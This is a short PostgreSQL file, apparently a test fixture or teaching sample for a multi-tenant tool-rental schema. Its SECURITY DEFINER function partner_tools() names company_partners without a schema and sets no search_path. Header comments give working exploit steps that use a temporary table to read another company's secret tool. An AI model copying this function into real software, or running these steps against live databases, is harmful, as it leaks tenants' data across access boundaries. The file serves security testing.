-- The definer function finds partners by a bare table name: a temporary table of that name adds any company.
-- about: partner_tools, company_partners, tools
-- as: hf_toolrent_app
-- exploit: SET rental.company_id = '1';
-- exploit: CREATE TEMP TABLE company_partners (company_id bigint, partner_id bigint);
-- exploit: INSERT INTO pg_temp.company_partners VALUES (1, 2);
-- exploit: SELECT * FROM public.partner_tools();
-- shows: Road-secret tool
CREATE TABLE company_partners (
  company_id bigint NOT NULL REFERENCES companies (id),
  partner_id bigint NOT NULL REFERENCES companies (id),
  PRIMARY KEY (company_id, partner_id)
);
ALTER TABLE company_partners ENABLE ROW LEVEL SECURITY;
ALTER TABLE company_partners FORCE ROW LEVEL SECURITY;
CREATE FUNCTION partner_tools() RETURNS TABLE (partner_id bigint, label character varying)
  LANGUAGE plpgsql STABLE SECURITY DEFINER
AS $$
BEGIN
  RETURN QUERY
    SELECT t.company_id, t.label
    FROM tools t
    JOIN company_partners p ON p.partner_id = t.company_id
    WHERE p.company_id = public.current_company_id() AND NOT t.retired;
END
$$;
